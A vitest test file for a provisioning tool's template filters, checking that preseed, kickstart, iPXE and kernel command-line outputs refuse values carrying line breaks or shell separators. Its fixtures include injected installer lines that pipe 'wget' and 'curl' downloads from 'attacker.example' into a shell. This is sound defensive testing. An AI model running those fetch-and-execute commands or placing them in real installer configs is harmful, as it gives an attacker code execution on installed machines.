import { describe, expect, it } from 'vitest';
import { PlinthError } from '../core/errors.js';
import { buildRenderContext, type RenderContext } from './context.js';
import { PLINTH_FILTERS } from './filters.js';
import { renderTemplate } from './render.js';
import { builtinSource } from './source.js';
import { TemplateError } from './template-error.js';
import { staticInput } from './test-fixtures.js';

/**
 * A value that cannot be written safely into its format is refused, naming the value, rather
 * than rendered. The attack: a machine reports a disk whose name holds a line break, and the
 * line after it becomes an installer instruction (a preseed late_command, a kickstart %pre).
 */
const PRESEED_LINE = 'sda\nd-i preseed/early_command string wget -qO- http://attacker.example/x | sh';
const KICKSTART_LINE = 'sda\n%pre\ncurl http://attacker.example/x | sh\n%end';

function withDiskName(name: string) {
  const input = staticInput({ mirror: 'http://mirror.example.com/fedora/linux/releases/40/Server/x86_64/os' });
  const facts = structuredClone(input.machine.facts!);
  facts.disks = [{ ...facts.disks[0]!, name, wwn: null }];
  return { ...input, machine: { ...input.machine, facts } };
}

/** A context whose disk path holds `path`, as an override or an older stored fact could hand a template. */
function contextWithDiskPath(path: string): RenderContext {
  const ctx = buildRenderContext(withDiskName('sda'));
  ctx.disk = { ...ctx.disk!, path, stablePath: path };
  return ctx;
}

const render = (kind: 'preseed' | 'kickstart', name: string, ctx: RenderContext) => renderTemplate(builtinSource, kind, name, ctx);

describe('a disk name with a line break (injected installer lines)', () => {
  it('is refused when the render context is built from the facts, naming the fact', () => {
    for (const name of [PRESEED_LINE, KICKSTART_LINE]) {
      const error = (() => {
        try {
          buildRenderContext(withDiskName(name));
          return null;
        } catch (e) {
          return e;
        }
      })();
      expect(error).toBeInstanceOf(PlinthError);
      expect((error as PlinthError).message).toContain('machine.facts.disks[0].name');
    }
  });

  it.each([
    ['preseed', 'preseed.cfg', PRESEED_LINE, /^d-i preseed\/early_command/m],
    ['kickstart', 'ks.cfg', KICKSTART_LINE, /^%pre$/m],
  ] as const)('is refused by the %s template, which names the value, instead of rendering the injected line', async (kind, name, path, injected) => {
    const result = await render(kind, name, contextWithDiskPath(`/dev/${path}`)).then(
      (r) => r.body,
      (e: unknown) => e,
    );
    if (typeof result === 'string') expect(result).not.toMatch(injected);
    expect(result).toBeInstanceOf(TemplateError);
    const error = result as TemplateError;
    expect(error.message).toContain(JSON.stringify(`/dev/${path}`).slice(0, 20));
    expect(error.message).toMatch(/line break/);
    expect(error.message).toContain('disk.stablePath');
  });
});

describe('format filters', () => {
  const f = PLINTH_FILTERS;
  const refusal = (fn: () => unknown) => {
    try {
      fn();
    } catch (e) {
      return (e as Error).message;
    }
    return null;
  };

  it('preseed: one line, no backslash', () => {
    expect(f.preseed('/dev/disk/by-id/wwn-0x5002538f4231abcd')).toBe('/dev/disk/by-id/wwn-0x5002538f4231abcd');
    expect(f.preseed(['a', 'b'])).toBe('a b');
    expect(refusal(() => f.preseed('a\nb'))).toMatch(/"a\\nb".*line break/);
    expect(refusal(() => f.preseed('a\\'))).toMatch(/backslash/);
    expect(refusal(() => f.preseed('a\tb'))).toMatch(/control character/);
  });

  it('kickstart and shell_word: safe words bare, others quoted, line breaks refused', () => {
    expect(f.kickstart('sda')).toBe('sda');
    expect(f.kickstart('a b#c')).toBe(`'a b#c'`);
    expect(f.shell_word("it's")).toBe(`'it'"'"'s'`);
    expect(refusal(() => f.kickstart('sda\n%pre'))).toMatch(/line break/);
  });

  it('shell_quote refuses line breaks and NUL (shell words land on preseed lines and in YAML blocks)', () => {
    expect(f.shell_quote('a b')).toBe(`'a b'`);
    expect(refusal(() => f.shell_quote('a\nb'))).toMatch(/line break/);
    expect(refusal(() => f.shell_quote('a\0b'))).toMatch(/control character/);
  });

  it('cmdline: kernel arguments without spaces inside, quotes, $, ; or |', () => {
    expect(f.cmdline('console=tty0 console=ttyS0,115200n8')).toBe('console=tty0 console=ttyS0,115200n8');
    expect(f.cmdline('eno1')).toBe('eno1');
    for (const bad of ['a"b', "a'b", 'a$b', 'a;b', 'a|b', 'a\\b', 'a\nb', 'é', '&&']) expect(refusal(() => f.cmdline(bad)), bad).toMatch(/kernel command line/);
  });

  it('ipxe: printable text without expansions or command separators', () => {
    expect(f.ipxe('http://10.0.2.2:7708/files/vmlinuz?a=1&b=2')).toBe('http://10.0.2.2:7708/files/vmlinuz?a=1&b=2');
    for (const bad of ['${net0/mac}', 'x || shell', 'x && y', 'a\nchain http://evil', 'a\tb']) expect(refusal(() => f.ipxe(bad)), bad).toMatch(/iPXE/);
  });

  it('yaml: a JSON scalar or list on one line, whatever the string holds', () => {
    expect(f.yaml('a\nb: c')).toBe('"a\\nb: c"');
    expect(f.yaml(['x', 'y'])).toBe('["x","y"]');
    expect(f.yaml(null)).toBe('null');
  });
});
